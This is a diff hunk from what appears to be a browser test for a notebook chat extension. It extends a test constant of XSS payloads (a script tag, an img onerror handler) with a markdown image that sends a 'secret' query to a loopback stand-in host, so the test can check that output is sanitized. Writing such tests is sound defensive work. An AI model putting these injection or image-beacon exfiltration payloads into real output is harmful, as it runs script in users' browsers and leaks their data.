@@ -40,7 +40,8 @@ ARTIFACTS = Path(__file__).resolve().parents[2] / "artifacts"
 # The answer the XSS cell asks the simulator to echo back verbatim.
 XSS_ANSWER = (
     "Injected: <script>window.__pwned = 1</script> and "
-    '<img src=x onerror="window.__pwned = 2"> end of injected text.'
+    '<img src=x onerror="window.__pwned = 2"> and '
+    "![pixel](http://127.0.0.1:9/leak.png?q=secret) end of injected text."
 )
 CHAT_PROMPT = "How should a browser test watch an answer stream in?"
 # The notebook's cells: 0 loads the extension, 1 streams reasoning then the simulator's default
